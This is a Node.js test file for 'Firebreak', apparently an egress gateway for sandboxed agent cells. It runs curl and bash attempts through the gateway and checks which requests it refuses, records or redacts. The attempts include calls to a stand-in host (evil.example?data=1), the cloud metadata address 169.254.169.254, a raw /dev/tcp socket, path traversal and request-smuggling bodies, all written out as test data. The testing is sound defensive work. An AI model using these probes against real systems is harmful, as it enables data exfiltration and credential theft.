/**
 * Programs of a real cell that know nothing of a gate: what they dial comes to it, and leaves only as a request that a
 * person has declared. curl and a shell; the origin counts every connection.
 */
import assert from 'node:assert/strict'
import { once } from 'node:events'
import { createServer, type IncomingMessage } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { before, describe, it } from 'node:test'
import type { Entry } from '../../src/model/entry.ts'
import { saidIn, scriptOf } from '../kit/attempts.ts'
import { firebreak, ledgerOf, SKIP } from '../kit/command-line.ts'
import { writeConfig } from '../kit/config-text.ts'
import { cleanUp, temporaryDirectory } from '../kit/temporary.ts'

interface Heard {
  readonly method: string
  readonly url: string
  readonly headers: IncomingMessage['headers']
  readonly body: string
}

/** An origin on loopback. */
async function origin() {
  const heard: Heard[] = []
  const server = createServer((request, response) => {
    let body = ''
    request.setEncoding('utf8').on('data', (piece) => {
      body += piece
    })
    request.once('end', () => {
      heard.push({ method: request.method ?? '', url: request.url ?? '', headers: request.headers, body })
      if (request.url === '/repos/shop/leak') return void response.end(`it is ${request.headers.authorization}`)
      if (request.url === '/repos/shop/big') return void response.end(Buffer.alloc(6_000_000, 'x'))
      if (request.url === '/repos/shop/stream') {
        response.writeHead(200, { 'content-type': 'text/event-stream' })
        for (const word of ['one', 'two', 'three']) response.write(`data: ${word}\n\n`)
        return void response.end()
      }
      response.setHeader('x-origin', 'here').end(`answer to ${request.method} ${request.url}`)
    })
  })
  const count = { met: 0 }
  server.on('connection', () => count.met++)
  await once(server.listen(0, '127.0.0.1'), 'listening')
  cleanUp(() => void server.close())
  const { port } = server.address() as AddressInfo // it listens on a port
  return { port, text: `http://127.0.0.1:${port}`, heard, count }
}

describe('a program of a cell, and the web', { skip: SKIP }, () => {
  let said: Readonly<Record<string, string>> = {}
  let entries: readonly Entry[] = []
  let api: Awaited<ReturnType<typeof origin>>
  let other: Awaited<ReturnType<typeof origin>>

  before(async () => {
    api = await origin()
    other = await origin()
    const curl = "curl -sS -m 20 -w ' [%{http_code}]'"
    const attempts: Readonly<Record<string, string>> = {
      read: `${curl} -H 'authorization: Bearer of-the-cell' -H 'x-own: 1' ${api.text}/repos/shop/desk?page=2`,
      'undeclared path': `${curl} ${api.text}/admin`,
      'undeclared query': `${curl} '${api.text}/repos/shop/desk?secret=1'`,
      'undeclared method': `${curl} -X DELETE ${api.text}/repos/shop/desk`,
      'dot segments': `${curl} --path-as-is ${api.text}/repos/shop/../../admin`,
      write: `${curl} -H 'content-type: application/json' -d '{"title":"broken"}' ${api.text}/repos/shop/issues`,
      'bad body': `${curl} -H 'content-type: application/json' -d '{"a":1,"a":2}' ${api.text}/repos/shop/issues`,
      upload: `head -c 3000000 /dev/zero | ${curl} -H 'content-type: application/octet-stream' -T - -X PUT ${api.text}/files/big`,
      'long body': `{ printf '{"title":"'; head -c 1100000 /dev/zero | tr '\\0' x; printf '"}'; } > /tmp/long; ${curl} -H 'content-type: application/json' -d @/tmp/long ${api.text}/repos/shop/issues`,
      form: `${curl} -d 'title=broken&tags[]=a&tags[]=b' ${api.text}/repos/forms/issues`,
      'form of two words': `${curl} -d 'title=a&[title]=b' ${api.text}/repos/shop/issues; ${curl} -d 'title=a&TITLE=b' ${api.text}/repos/shop/issues`,
      'form that is JSON': `${curl} -d '{"title":"=&title=b"}' ${api.text}/repos/shop/issues`,
      'another method': `${curl} -d '_method=DELETE' ${api.text}/repos/shop/issues`,
      'no type': `${curl} -H 'content-type: comment' -d 'x' ${api.text}/repos/shop/issues`,
      'folded path': `for path in EXPORT export.json export/ %2565xport; do ${curl} ${api.text}/users/$path; done`,
      leak: `${curl} ${api.text}/repos/shop/leak`,
      stream: `${curl} -N ${api.text}/repos/shop/stream`,
      big: `${curl} -o /dev/null -w ' %{size_download}' ${api.text}/repos/shop/big`,
      'another port of it': `${curl} ${other.text}/`,
      'a name': `${curl} http://evil.example/?data=1`,
      'a name in TLS': `${curl} https://evil.example/data; ${curl} --http1.1 https://evil.example/data`,
      'an address': `${curl} http://169.254.169.254/latest/meta-data; ${curl} https://1.1.1.1/`,
      'another Host': `${curl} -H 'host: other.example' ${api.text}/repos/shop/desk`,
      'no such name': `${curl} http://x.onion/`,
      'another port': `${curl} http://evil.example:8080/`,
      'a plain socket': `(exec 3<>/dev/tcp/10.1.2.3/22) 2>&1`,
    }
    const script = scriptOf(attempts)
    const directory = temporaryDirectory()
    const state = join(directory, 'state')
    const file = writeConfig(directory, {
      secrets: { token: { env: 'API_TOKEN' } },
      upstreams: {
        api: {
          http: { origin: api.text, headers: { authorization: 'Bearer ${secret:token}' } },
          tools: {
            'GET /repos/{owner}/{repo}?page': 'read',
            'POST /repos/{owner}/issues': 'write',
            'PUT /files/{path*}': 'write',
            'GET /users/{id}': 'read',
            'GET /users/export': 'read',
            'GET /users/{rest*}': 'read',
          },
        },
      },
      agents: {
        alpha: {
          grants: [
            {
              upstream: 'api',
              tools: [
                'GET /repos/{owner}/{repo}?page',
                ...['POST /repos/{owner}/issues', 'PUT /files/{path*}', 'GET /users/{id}', 'GET /users/{rest*}'],
              ],
              expires: '8h',
            },
          ],
        },
      },
    })
    const ran = await firebreak(['run', '--config', file, '--state', state, '--', 'bash', '-c', script], {
      API_TOKEN: 'tok_5f4e3d2c1b0a9988',
    })
    assert.equal(ran.code, 0, ran.stderr)
    said = saidIn(ran.stdout)
    entries = await ledgerOf(state)
  })

  it('an answer that passes on has as many bytes as it likes, where nobody counts them', () => {
    assert.match(said.big ?? '', /^6000000/)
  })

  const heard = (url: string) => api.heard.filter((each) => each.url === url)
  const refused = () => entries.flatMap((entry) => (entry.kind === 'action.refused' ? [entry] : []))

  it('S4: a declared request is an action: decided, recorded before it leaves, and answered', () => {
    assert.equal(said.read, 'answer to GET /repos/shop/desk?page=2 [200]')
    const intent = entries.find((entry) => entry.kind === 'action.intent')
    assert.ok(intent?.kind === 'action.intent')
    assert.deepEqual(
      [intent.operation, intent.tool, intent.protocol, intent.effect, intent.args],
      [
        'request',
        'GET /repos/{owner}/{repo}?page',
        'http',
        'read',
        { owner: 'shop', repo: 'desk', query: { page: '2' } },
      ],
    )
    const outcome = entries.find((entry) => entry.kind === 'action.outcome' && entry.action === intent.action)
    assert.ok(outcome?.kind === 'action.outcome')
    assert.equal(outcome.outcome, 'done')
  })

  it('S10: its owner’s credential goes with it, and not the cell’s; an answer that holds it is cut', () => {
    const [sent] = heard('/repos/shop/desk?page=2')
    assert.equal(sent?.headers.authorization, 'Bearer tok_5f4e3d2c1b0a9988')
    assert.equal(sent?.headers['x-own'], '1')
    assert.doesNotMatch(said.leak ?? '', /tok_5f4e3d2c1b0a9988/)
    assert.ok(entries.some((entry) => entry.kind === 'action.outcome' && entry.leaked?.includes('token')))
  })

  it('S2: what nobody declared leaves nothing, and says why', () => {
    assert.match(
      said['undeclared path'] ?? '',
      /refused by Firebreak: GET \/admin is none of what api declares \(reference a_\w+\)\s+\[403\]/,
    )
    assert.match(said['undeclared query'] ?? '', /its query names secret.*\[400\]/s)
    assert.match(said['undeclared method'] ?? '', /DELETE .* is none of what api declares.*\[403\]/s)
    assert.match(said['dot segments'] ?? '', /dot segments.*\[400\]/s)
    assert.match(said['bad body'] ?? '', /its body: .*\[400\]/s)
    assert.deepEqual(heard('/admin'), [])
    assert.equal(api.heard.filter(({ url }) => url.startsWith('/repos/shop/desk')).length, 1)
  })

  it('an effect is judged by what its body says, and a large body passes on as it comes', () => {
    assert.equal(said.write, 'answer to POST /repos/shop/issues [200]')
    assert.equal(heard('/repos/shop/issues')[0]?.body, '{"title":"broken"}')
    assert.match(said.upload ?? '', /answer to PUT \/files\/big \[200\]/)
    assert.equal(heard('/files/big')[0]?.body.length, 3_000_000)
    assert.equal(said.stream, 'data: one\n\ndata: two\n\ndata: three\n\n [200]')
  })

  it('S11: a body or a path that servers read in another way leaves nothing, and says why', () => {
    assert.match(said.form ?? '', /\[200\]$/)
    assert.match(said['form of two words'] ?? '', /brackets.*\[400\].*"title" and "TITLE".*\[400\]$/s)
    assert.match(said['form that is JSON'] ?? '', /begins as JSON.*\[400\]$/s)
    assert.match(said['another method'] ?? '', /_method.*\[400\]$/s)
    assert.match(said['no type'] ?? '', /type\/subtype.*\[400\]$/s)
    assert.equal(said['folded path']?.match(/GET \/users\/export to servers that.*?\[400\]/gs)?.length, 4)
    assert.deepEqual(
      api.heard.flatMap(({ url, body }) => (/users|title=|_method/.test(url + body) ? [body] : [])),
      ['title=broken&tags%5B%5D=a&tags%5B%5D=b'],
    )
  })

  it('S17: a body that is too long to be judged is refused', () => {
    assert.match(said['long body'] ?? '', /more than 1048576 bytes.*\[413\]/s)
    assert.equal(heard('/repos/shop/issues').length, 1)
  })

  it('S6: S11: whatever else it dials ends here, inside TLS as well, and is told', () => {
    assert.equal(other.count.met, 0)
    assert.match(
      said['a name'] ?? '',
      /refused by Firebreak: evil\.example is no place that this cell may reach \(reference a_\w+\)\s+\[403\]/,
    )
    assert.equal((said['a name in TLS'] ?? '').match(/evil\.example is no place .*?\[403\]/gs)?.length, 2)
    assert.equal((said['an address'] ?? '').match(/is no place that this cell may reach/g)?.length, 2)
    assert.match(said['another Host'] ?? '', /\[421\]/)
    assert.match(said['no such name'] ?? '', /resolve host/i)
    assert.match(said['another port'] ?? '', /refused|connect/i)
    assert.match(said['another port of it'] ?? '', /refused|connect/i)
    assert.match(said['a plain socket'] ?? '', /refused/i)
    assert.ok(refused().some(({ tool }) => tool === 'GET evil.example'))
  })
})
